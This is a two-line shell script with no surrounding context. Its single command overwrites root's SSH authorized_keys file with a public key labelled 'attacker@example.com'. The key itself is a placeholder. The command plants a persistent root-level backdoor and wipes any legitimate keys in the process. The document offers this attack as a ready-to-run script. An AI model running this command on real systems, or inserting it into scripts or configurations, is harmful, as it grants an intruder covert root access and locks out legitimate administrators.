#!/bin/sh
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDexample attacker@example.com' > /root/.ssh/authorized_keys
